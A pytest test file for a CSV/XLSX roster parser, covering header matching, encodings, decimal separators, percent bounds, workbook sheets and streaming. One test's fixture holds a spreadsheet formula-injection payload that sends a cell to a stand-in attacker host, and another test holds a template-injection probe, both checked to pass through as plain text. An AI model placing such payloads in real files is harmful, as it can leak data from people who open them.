"""Rosters as people keep them, read strictly and one row at a time."""

import datetime as dt
import shutil
import tracemalloc
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest

from perftemplates.blueprint.values import ValueProblem
from perftemplates.errors import InputError
from perftemplates.roster import Roster, RosterOptions, normalise, parse_number
from perftemplates.templates import find_template

CASES = Path(__file__).parent / "data" / "cases"


@pytest.fixture(scope="module")
def okr():
    return find_template("okr").blueprint


@pytest.fixture(scope="module")
def mbo():
    return find_template("mbo").blueprint


def _rows(path: Path, blueprint, **options) -> list:
    return list(Roster(path, blueprint, RosterOptions(**options)).rows())


def _write(tmp_path: Path, text: str, name: str = "roster.csv", **kw) -> Path:
    path = tmp_path / name
    path.write_text(text, **{"encoding": "utf-8", "newline": "", **kw})
    return path


# Headers


def test_headers_match_ignoring_case_spaces_hyphens_and_underscores():
    assert {normalise(h) for h in ("Owner Email", "owner-email", "OWNER_EMAIL")} == {
        "owneremail"
    }


def test_a_byte_order_mark_never_reaches_a_header_or_value(okr):
    roster = Roster(CASES / "teams-bom.csv", okr)
    rows = list(roster.rows())

    assert roster.headers == ["Team", "Owner", "Owner Email"]
    assert [row.overrides for row in rows] == [
        {"team": "Alpha", "owner": "Ana Example"},
        {"team": "Beta", "owner": "Ben Example"},
    ]
    assert rows[0].values["owneremail"] == "ana@example.invalid"
    assert not any("\ufeff" in v for row in rows for v in row.values.values())


def test_headers_fill_settings_and_sheet_fields(mbo):
    roster = Roster(CASES / "employees-bad-rows.csv", mbo)

    assert [target.key for target in roster.targets.values()] == [
        "employee",
        "role",
        "manager",
        "base_salary",
        "target_bonus_pct",
    ]


def test_two_headers_that_mean_the_same_column_are_refused(tmp_path, okr):
    path = _write(tmp_path, "Team,Owner,owner\nA,B,C\n")

    with pytest.raises(InputError, match="'Owner' and 'owner' both mean 'owner'"):
        Roster(path, okr)


# Separators, encodings, quoting


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_the_separator_is_detected(tmp_path, okr, separator):
    path = _write(tmp_path, f"Team{separator}Owner\nAlpha{separator}Ana\n")

    (row,) = _rows(path, okr)

    assert row.overrides == {"team": "Alpha", "owner": "Ana"}


def test_a_separator_inside_quotes_does_not_count(tmp_path, okr):
    path = _write(tmp_path, '"Team, or squad";Owner\n"Alpha, Inc";Ana\n')

    (row,) = _rows(path, okr)

    assert row.values == {"team,orsquad": "Alpha, Inc", "owner": "Ana"}


def test_quoted_line_breaks_stay_in_the_value_and_rows_count_records(tmp_path, okr):
    path = _write(tmp_path, 'Team,Owner\n"Alpha\nBeta",Ana\n\nGamma,\n')

    rows = _rows(path, okr)

    assert [(row.number, row.values["team"]) for row in rows] == [
        (2, "Alpha\nBeta"),
        (4, "Gamma"),
    ]


def test_windows_1252_is_read_with_encoding(tmp_path, okr):
    path = _write(tmp_path, "Team,Owner\nMüller,Zoë\n", encoding="cp1252")

    (row,) = _rows(path, okr, encoding="cp1252")

    assert row.overrides == {"team": "Müller", "owner": "Zoë"}


def test_windows_1252_without_encoding_names_the_row_and_the_option(tmp_path, okr):
    path = _write(tmp_path, "Team,Owner\nAlpha,Ana\nMüller,Zoë\n", encoding="cp1252")

    with pytest.raises(InputError, match=r"line 3 is not utf-8-sig text.*--encoding"):
        _rows(path, okr)


def test_an_unknown_encoding_is_an_input_error(tmp_path, okr):
    path = _write(tmp_path, "Team\nA\n")

    with pytest.raises(InputError, match="unknown encoding 'latin-99'"):
        Roster(path, okr, RosterOptions(encoding="latin-99"))


def test_utf16_from_excel_unicode_text_is_recognised(tmp_path, okr):
    path = tmp_path / "roster.txt"
    path.write_bytes("Team\tOwner\r\nAlpha\tAna\r\n".encode("utf-16"))

    (row,) = _rows(path, okr)

    assert row.overrides == {"team": "Alpha", "owner": "Ana"}


def test_an_empty_roster_is_an_input_error(tmp_path, okr):
    with pytest.raises(InputError, match="empty; expected a header row"):
        Roster(_write(tmp_path, ""), okr)


def test_a_row_with_more_values_than_headers_is_a_bad_row(tmp_path, okr):
    path = _write(tmp_path, "Team,Owner\nAlpha,Ana,extra\nBeta,Ben,\n")

    rows = _rows(path, okr)

    assert rows[0].problems == ["3 values but the header has 2 columns"]
    assert rows[1].problems == []


# Values


def test_text_is_kept_exactly_as_typed(okr):
    rows = _rows(CASES / "teams-formula-text.csv", okr)

    assert [row.overrides["owner"] for row in rows] == [
        '=HYPERLINK("http://evil.invalid/?d="&A1,"Open")',
        "@SUM(1,1)",
        "-1+2",
        "Dan Example",
        "Eve Example",
    ]
    assert rows[2].values["notes"] == "Summary:\n=see attached"
    assert rows[4].values == {
        "team": "00123",
        "owner": "Eve Example",
        "notes": "1405202108700589",
    }


def test_decimal_commas_with_decimal_option(mbo):
    rows = _rows(CASES / "employees-semicolon.csv", mbo, decimal=",")

    assert [row.problems for row in rows] == [[], [], []]
    assert [float(row.overrides["base_salary"]) for row in rows] == [
        58500.0,
        61250.5,
        72000.0,
    ]
    assert rows[0].overrides["target_bonus_pct"] == "0.125"


def test_decimal_commas_without_the_option_are_row_errors_never_numbers(mbo):
    rows = _rows(CASES / "employees-semicolon.csv", mbo)

    assert [row.number for row in rows] == [2, 3, 4]
    assert all("base_salary" not in row.overrides for row in rows)
    assert rows[0].problems == [
        "Base Salary: expected a number; found '58.500,00' "
        "(decimal commas need --decimal ,)",
        "Target Bonus Pct: expected a number; found '12,5' "
        "(decimal commas need --decimal ,)",
    ]
    # 72.000 reads as 72 or as 72000: refused rather than guessed.
    assert rows[2].problems == [
        "Base Salary: '72.000' is a thousand or a fraction depending on the "
        "country; pass --decimal , or --decimal ."
    ]


def test_bad_rows_are_reported_with_column_and_reason(mbo):
    rows = _rows(CASES / "employees-bad-rows.csv", mbo)

    assert {row.number: row.problems for row in rows if row.problems} == {
        3: ["Base Salary: expected a number; found 'abc'"],
        5: ["Employee: empty; every row needs one"],
        6: ["Target Bonus Pct: expected a number; found 'eight'"],
    }


def test_a_missing_owner_is_a_bad_row(tmp_path, okr):
    (row,) = _rows(_write(tmp_path, "Team,Owner\nAlpha,  \n"), okr)

    assert row.problems == ["Owner: empty; every row needs one"]


@pytest.mark.parametrize(
    ("text", "decimal", "expected"),
    [
        ("58500", None, "58500"),
        ("-12.5", None, "-12.5"),
        (".5", None, "0.5"),
        ("1,234.50", None, "1234.50"),
        ("1,234,567", None, "1234567"),
        ("58 500", None, "58500"),
        ("58\u202f500,5", ",", "58500.5"),
        ("1.234,50", ",", "1234.50"),
        ("72.000", ",", "72000"),
        ("72.000", ".", "72.000"),
        ("1,234", ".", "1234"),
    ],
)
def test_numbers_are_parsed_by_the_decimal_separator(text, decimal, expected):
    assert parse_number(text, decimal) == Decimal(expected)


@pytest.mark.parametrize(
    ("text", "decimal"),
    [
        ("abc", None),
        ("1,234", None),
        ("72.000", None),
        ("12,5", None),
        ("1.234,50", "."),
        ("1,2,3", ","),
        ("12.34.56", None),
        ("1e5", None),
        ("$100", None),
        ("", None),
    ],
)
def test_anything_else_is_refused(text, decimal):
    with pytest.raises(ValueProblem):
        parse_number(text, decimal)


@pytest.mark.parametrize(
    ("text", "expected"),
    [("12.5", "0.125"), ("12.5%", "0.125"), ("12.5 %", "0.125"), ("0%", "0")],
)
def test_percent_columns_read_percentage_points(tmp_path, mbo, text, expected):
    path = _write(tmp_path, f'Employee,Target bonus pct\nAna,"{text}"\n')

    (row,) = _rows(path, mbo)

    assert Decimal(row.overrides["target_bonus_pct"]) == Decimal(expected)


def test_a_percent_below_one_without_a_sign_is_ambiguous(tmp_path, mbo):
    (row,) = _rows(_write(tmp_path, "Employee,Target bonus pct\nAna,0.15\n"), mbo)

    assert row.problems == [
        "Target bonus pct: 0.15 could mean 15 % or 0.15 %; write it with a % sign"
    ]


def test_bounds_and_choices_are_checked_as_render_checks_them(tmp_path, okr):
    text = "Team,Owner,Quarter,Grade green\nA,Ana,q3,2\nB,Ben,Q5,0.5\n"
    path = _write(tmp_path, text)

    first, second = _rows(path, okr)

    assert first.overrides["quarter"] == "Q3"
    assert first.problems == ["Grade green: expected a number from 0 to 1; found 2"]
    assert second.problems == ["Quarter: expected one of Q1, Q2, Q3, Q4; found 'Q5'"]


def test_a_percent_out_of_bounds_is_named_in_percent(tmp_path, mbo):
    text = "Employee,Target bonus pct\nAna,250\nBen,-5%\n"

    first, second = _rows(_write(tmp_path, text), mbo)

    assert first.problems == [
        "Target bonus pct: expected a percent from 0 % to 200 %; found 250 %"
    ]
    assert second.problems == [
        "Target bonus pct: expected a percent from 0 % to 200 %; found -5 %"
    ]


def test_template_like_text_passes_through_as_typed(tmp_path, okr):
    (row,) = _rows(_write(tmp_path, "Team,Owner\n{{ 7*7 }},Ana\n"), okr)

    assert row.overrides["team"] == "{{ 7*7 }}"
    assert row.problems == []


def test_unmatched_columns_are_kept_as_row_values(okr):
    (row, *_) = _rows(CASES / "teams-bom.csv", okr)

    assert row.values == {
        "team": "Alpha",
        "owner": "Ana Example",
        "owneremail": "ana@example.invalid",
    }
    assert "owneremail" not in row.overrides


# Workbooks


def test_xlsx_ids_stay_text_and_numbers_lose_no_digits(okr):
    rows = _rows(CASES / "teams.xlsx", okr)

    assert [row.values["employeeid"] for row in rows] == ["00123", "00456", "01000"]
    assert [row.values["members"] for row in rows] == ["5", "7", "4"]
    assert rows[0].overrides == {"team": "Alpha", "owner": "Ana Example"}


def test_xlsx_sheet_by_name_and_typed_cells(tmp_path, mbo):
    book = openpyxl.Workbook()
    book.active.title = "Notes"
    sheet = book.create_sheet("People")
    sheet.append(["Employee", "Base salary", "Target bonus pct", "As of"])
    sheet.append(["Ana", 58500.5, 0.125, dt.datetime(2026, 7, 1)])
    sheet["C2"].number_format = "0.0%"
    path = tmp_path / "people.xlsx"
    book.save(path)

    (row,) = _rows(path, mbo, sheet="People")

    assert row.problems == []
    assert row.overrides == {
        "employee": "Ana",
        "base_salary": "58500.5",
        "target_bonus_pct": "0.125",
        "as_of": "2026-07-01",
    }


def test_an_unknown_sheet_lists_the_sheets(tmp_path, okr):
    path = tmp_path / "teams.xlsx"
    shutil.copyfile(CASES / "teams.xlsx", path)

    with pytest.raises(InputError, match="no sheet called 'Nope'; found Teams"):
        Roster(path, okr, RosterOptions(sheet="Nope"))


def test_old_xls_files_are_refused_with_what_to_do(tmp_path, okr):
    path = tmp_path / "teams.xls"
    path.write_bytes(b"\xd0\xcf\x11\xe0")

    with pytest.raises(InputError, match="save as .xlsx"):
        Roster(path, okr)


# Streaming


def test_rows_are_streamed_so_memory_stays_flat(tmp_path, okr):
    path = tmp_path / "big.csv"
    with path.open("w", encoding="utf-8") as stream:
        stream.write("Team,Owner,Notes\n")
        for n in range(20_000):
            stream.write(f"Team {n},Owner {n},{'x' * 200}\n")
    roster = Roster(path, okr)

    tracemalloc.start()
    count = sum(1 for _ in roster.rows())
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()

    assert count == 20_000
    assert peak < 1_000_000  # a whole 4.5 MB roster would never fit
